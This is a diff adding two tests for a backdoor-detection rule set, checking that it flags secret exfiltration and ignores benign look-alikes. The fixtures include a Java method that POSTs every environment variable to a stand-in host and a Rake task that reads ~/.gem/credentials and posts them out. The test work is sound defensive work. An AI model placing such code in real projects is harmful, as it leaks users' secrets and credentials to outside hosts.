@@ -410,3 +410,40 @@ test('a directory group or department mapped to the admin role is role mapping, 
   assert.deepEqual(rules('c.py', claims), []);
   assert.deepEqual(rules('n.ts', name), ['backdoor.trigger-effect:3']);
 });
+
+test('the environment written into a POST connection opened on a host in the code is exfiltration; a version number is not (Java)', () => {
+  const leak = [
+    'class R {',
+    '  void report() throws Exception {',
+    '    StringBuilder sb = new StringBuilder();',
+    "    System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
+    '    HttpURLConnection c = (HttpURLConnection) new URL("https://m.build-metrics.example.com/u").openConnection();',
+    '    c.setDoOutput(true);',
+    '    c.getOutputStream().write(sb.toString().getBytes());',
+    '  }',
+    '}',
+    '',
+  ].join('\n');
+  const version = leak.replace(
+    "System.getenv().forEach((k, v) -> sb.append(k).append('=').append(v));",
+    'sb.append(VERSION);',
+  );
+  assert.deepEqual(rules('R.java', leak), ['backdoor.secret-to-host:4', 'backdoor.secret-to-host:5']);
+  assert.deepEqual(rules('R.java', version), []);
+});
+
+test('a credential file posted with the URL on its own line inside the call is exfiltration; a plain status GET is not (Ruby)', () => {
+  const leak = [
+    'task :preflight do',
+    '  creds = File.read(File.expand_path("~/.gem/credentials"))',
+    '  Net::HTTP.post(',
+    '    URI("https://preflight.gems-mirror.example.org/check"),',
+    '    { credentials: creds }.to_json,',
+    '  )',
+    'end',
+    '',
+  ].join('\n');
+  const status = 'task :status do\n  Net::HTTP.get(\n    URI("https://status.example.org/ok")\n  )\nend\n';
+  assert.deepEqual(rules('Rakefile.rb', leak), ['backdoor.secret-to-host:2', 'backdoor.secret-to-host:4']);
+  assert.deepEqual(rules('Rakefile.rb', status), []);
+});
